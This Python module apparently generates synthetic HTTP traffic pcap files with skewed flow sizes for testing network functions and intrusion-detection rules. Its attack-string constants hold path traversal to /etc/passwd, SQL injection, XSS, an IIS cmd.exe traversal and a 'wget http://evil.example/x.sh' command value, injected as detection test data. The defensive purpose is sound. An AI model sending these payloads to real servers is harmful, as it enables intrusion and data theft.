"""Synthetic HTTP/1.1 traffic with skewed flow sizes, written as a real pcap.

Each flow is a TCP connection (three-way handshake, request/response
exchanges segmented at the MSS with correct sequence numbers and checksums,
FIN teardown) between a client in 10.0.0.0/16 and a server in 10.1.0.0/24 on
port 80. Flows overlap in time throughout the trace (each starts at a uniform time
in the window that lets it end with the longest flow), so every part of
the trace mixes small and large flows. Flow sizes (request/response
exchanges per flow) follow a size
distribution: ``uniform`` (uniform on 1..2m-1), ``zipf:S`` (rank-size Zipf, the
flow of rank r has size proportional to r**-S) or ``pareto:A`` (Pareto with
shape A), each scaled so that the mean is ``mean_exchanges`` (sizes >= 1).
Some responses are chunked, some flows pipeline requests, some requests are
POSTs with bodies, and a small fraction of messages carry attack strings the
example IDS rules look for. Same arguments and seed give a byte-identical file.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

import dpkt
import numpy as np

from dl_nfv.artifacts.errors import BadInput

from .pcap import PcapWriter

MSS = 1448
ATTACKS_URL = ("/cgi-bin/../../../../etc/passwd", "/search?q=1%27+UNION+SELECT+password+FROM+users",
               "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir", "/index.php?page=<script>alert(1)</script>",
               "/login?user=admin&cmd=wget+http://evil.example/x.sh")
ATTACKS_BODY = (b"root:x:0:0:root:/root:/bin/bash", b"<SCRIPT>document.cookie</SCRIPT>",
                b"' union select card_number from payments --")
WORDS = (b"the network function flow packet server client message batch kernel table state "
         b"order queue cache index html body div span class href title style script data value "
         b"alpha beta gamma delta lorem ipsum dolor sit amet consectetur adipiscing elit").split()
_DIST = re.compile(r"^(uniform|zipf:(\d+(\.\d+)?)|pareto:(\d+(\.\d+)?))$")


@dataclass(frozen=True, slots=True)
class TraceSpec:
    """What to generate; ``size_dist`` is ``uniform``, ``zipf:S`` or ``pareto:A``."""

    flows: int
    size_dist: str = "zipf:1.2"
    mix: str = "http"
    mean_exchanges: float = 4.0
    max_exchanges: int = 5000
    attack_rate: float = 0.01
    seed: int = 0


def parse_size_dist(text: str) -> tuple[str, float]:
    """``("zipf", 1.2)`` from ``"zipf:1.2"``; ``BadInput`` naming the value otherwise."""
    m = _DIST.match(text.strip())
    if not m:
        raise BadInput(f"--size-dist: unknown distribution {text!r} "
                       f"(expected uniform, zipf:S or pareto:A, e.g. zipf:1.2)")
    name, _, param = text.partition(":")
    value = float(param) if param else 0.0
    if name == "pareto" and value <= 0:
        raise BadInput(f"--size-dist: pareto shape must be > 0, got {value}")
    return name, value


def flow_sizes(n: int, size_dist: str, mean: float, max_size: int,
               rng: np.random.Generator) -> np.ndarray:
    """Exchanges per flow (int >= 1, <= max_size), mean close to ``mean``, in random order."""
    name, param = parse_size_dist(size_dist)
    if name == "uniform":
        hi = max(1, int(round(2 * mean - 1)))
        return rng.integers(1, hi + 1, size=n)
    if name == "zipf":
        shape = np.arange(1, n + 1, dtype=np.float64) ** -param
    else:
        shape = np.sort(rng.pareto(param, size=n) + 1.0)[::-1]
    lo, hi = 0.0, mean * n / shape.sum() * 4 + 1
    for _ in range(60):  # bisection on the scale so that the mean size matches
        mid = (lo + hi) / 2
        if np.clip(np.round(shape * mid), 1, max_size).mean() < mean:
            lo = mid
        else:
            hi = mid
    sizes = np.clip(np.round(shape * hi), 1, max_size).astype(np.int64)
    return rng.permutation(sizes)


class _Builder:
    def __init__(self, spec: TraceSpec, rng: np.random.Generator):
        self.spec = spec
        self.rng = rng
        self.frames: list[tuple[int, int, bytes]] = []
        self.hosts = [f"www.site{i}.example" for i in range(40)]
        words = [WORDS[i] for i in rng.integers(0, len(WORDS), size=200_000)]
        self.text = b" ".join(words)

    def _body(self, size: int) -> bytes:
        start = int(self.rng.integers(0, len(self.text) - size - 1))
        return self.text[start:start + size]

    def _frame(self, ts_us: int, src, dst, sport, dport, seq, ack, flags, data=b"") -> None:
        tcp = dpkt.tcp.TCP(sport=sport, dport=dport, seq=seq & 0xFFFFFFFF, ack=ack & 0xFFFFFFFF,
                           flags=flags, win=65535, data=data)
        ip = dpkt.ip.IP(src=src, dst=dst, p=dpkt.ip.IP_PROTO_TCP, ttl=64, data=tcp)
        ip.len = 20 + len(tcp)
        eth = dpkt.ethernet.Ethernet(src=b"\x02\x00\x00\x00\x00\x01", dst=b"\x02\x00\x00\x00\x00\x02",
                                     type=dpkt.ethernet.ETH_TYPE_IP, data=ip)
        self.frames.append((ts_us, len(self.frames), bytes(eth)))

    def request(self) -> bytes:
        rng = self.rng
        host = self.hosts[int(rng.integers(0, len(self.hosts)))]
        url = f"/static/{int(rng.integers(0, 10**6))}/page{int(rng.integers(0, 500))}.html"
        body = b""
        if rng.random() < self.spec.attack_rate:
            url = ATTACKS_URL[int(rng.integers(0, len(ATTACKS_URL)))]
        method = "GET"
        if rng.random() < 0.15:
            method = "POST"
            body = self._body(int(rng.integers(20, 800)))
            if rng.random() < self.spec.attack_rate:
                attack = ATTACKS_BODY[int(rng.integers(0, len(ATTACKS_BODY)))]
                body = body[: len(body) // 2] + attack + body[len(body) // 2:]
        head = (f"{method} {url} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: dl-nfv-gen/1.0\r\n"
                f"Accept: text/html,*/*\r\nCookie: session={int(rng.integers(0, 10**9)):09d}\r\n")
        if body:
            head += f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n"
        return head.encode() + b"\r\n" + body

    def response(self) -> bytes:
        rng = self.rng
        size = int(min(65536, max(16, rng.lognormal(np.log(1200), 1.0))))
        body = self._body(size)
        if rng.random() < self.spec.attack_rate:
            attack = ATTACKS_BODY[int(rng.integers(0, len(ATTACKS_BODY)))]
            body = body[: size // 2] + attack + body[size // 2:]
        status = "200 OK" if rng.random() < 0.95 else "404 Not Found"
        if rng.random() < 0.2:
            chunks = []
            pos = 0
            while pos < len(body):
                step = int(rng.integers(200, 4000))
                piece = body[pos:pos + step]
                chunks.append(f"{len(piece):x}\r\n".encode() + piece + b"\r\n")
                pos += step
            return (f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\nTransfer-Encoding: chunked"
                    f"\r\n\r\n").encode() + b"".join(chunks) + b"0\r\n\r\n"
        return (f"HTTP/1.1 {status}\r\nContent-Type: text/html\r\nContent-Length: {len(body)}"
                f"\r\nServer: dl-nfv-gen\r\n\r\n").encode() + body

    def flow(self, i: int, start_us: int, exchanges: int) -> None:
        rng = self.rng
        c = bytes([10, 0, (i >> 8) & 0xFF, i & 0xFF])
        s = bytes([10, 1, 0, 1 + i % 16])
        cport = 1024 + (i * 7919) % 60000
        cseq = int(rng.integers(0, 2**32))
        sseq = int(rng.integers(0, 2**32))
        t = start_us
        rtt = int(rng.integers(50, 400))
        self._frame(t, c, s, cport, 80, cseq, 0, dpkt.tcp.TH_SYN)
        self._frame(t + rtt // 2, s, c, 80, cport, sseq, cseq + 1,
                    dpkt.tcp.TH_SYN | dpkt.tcp.TH_ACK)
        t += rtt
        cseq += 1
        sseq += 1
        self._frame(t, c, s, cport, 80, cseq, sseq, dpkt.tcp.TH_ACK)
        pipeline = 2 if rng.random() < 0.1 else 1
        done = 0
        while done < exchanges:
            batch = min(pipeline, exchanges - done)
            for _ in range(batch):
                cseq, t = self._send(t, c, s, cport, 80, cseq, sseq, self.request())
            t += rtt // 2
            for _ in range(batch):
                sseq, t = self._send(t, s, c, 80, cport, sseq, cseq, self.response())
            t += rtt // 2 + int(rng.integers(10, 200))
            done += batch
        flags = dpkt.tcp.TH_FIN | dpkt.tcp.TH_ACK
        self._frame(t, c, s, cport, 80, cseq, sseq, flags)
        self._frame(t + rtt // 2, s, c, 80, cport, sseq, cseq + 1, flags)
        self._frame(t + rtt, c, s, cport, 80, cseq + 1, sseq + 1, dpkt.tcp.TH_ACK)

    def _send(self, t, src, dst, sport, dport, seq, ack, message: bytes):
        for pos in range(0, len(message), MSS):
            piece = message[pos:pos + MSS]
            self._frame(t, src, dst, sport, dport, seq, ack, dpkt.tcp.TH_ACK | dpkt.tcp.TH_PUSH,
                        piece)
            seq += len(piece)
            t += 1 + len(piece) // 1250  # ~10 Gbps serialisation
        return seq, t


def generate_trace(spec: TraceSpec, path: str | Path) -> dict:
    """Write the trace ``spec`` describes to ``path`` (.pcap or .pcapng).

    Returns a summary (flows, packets, exchanges, size distribution). Raises
    ``BadInput`` for an unknown distribution or mix, or a missing folder.
    O(total bytes); about 20 microseconds per packet.
    """
    if spec.flows < 1 or spec.flows > 65535:
        raise BadInput(f"--flows must be between 1 and 65535, got {spec.flows}")
    if spec.mix != "http":
        raise BadInput(f"--mix: unknown traffic mix {spec.mix!r} (supported: http)")
    if spec.mean_exchanges < 1:
        raise BadInput(f"mean exchanges per flow must be >= 1, got {spec.mean_exchanges}")
    rng = np.random.default_rng(spec.seed)
    sizes = flow_sizes(spec.flows, spec.size_dist, spec.mean_exchanges, spec.max_exchanges, rng)
    builder = _Builder(spec, rng)
    # Flows overlap in time as in a steady state: each starts at a uniform time in
    # [0, T - its expected duration], T covering the longest flow and the arrivals.
    duration_us = sizes * 500.0
    span = max(float(duration_us.max()), 20.0 * spec.flows)
    starts = (rng.uniform(0, 1, size=spec.flows) * (span - duration_us)).astype(np.int64) + 1_000_000
    for i in range(spec.flows):
        builder.flow(i, int(starts[i]), int(sizes[i]))
    builder.frames.sort()
    base = 1_700_000_000 * 1_000_000
    with PcapWriter(path) as writer:
        for ts_us, _, frame in builder.frames:
            writer.write(frame, base + ts_us)
    return {"flows": spec.flows, "packets": len(builder.frames), "exchanges": int(sizes.sum()),
            "largest_flow_exchanges": int(sizes.max()), "size_dist": spec.size_dist}
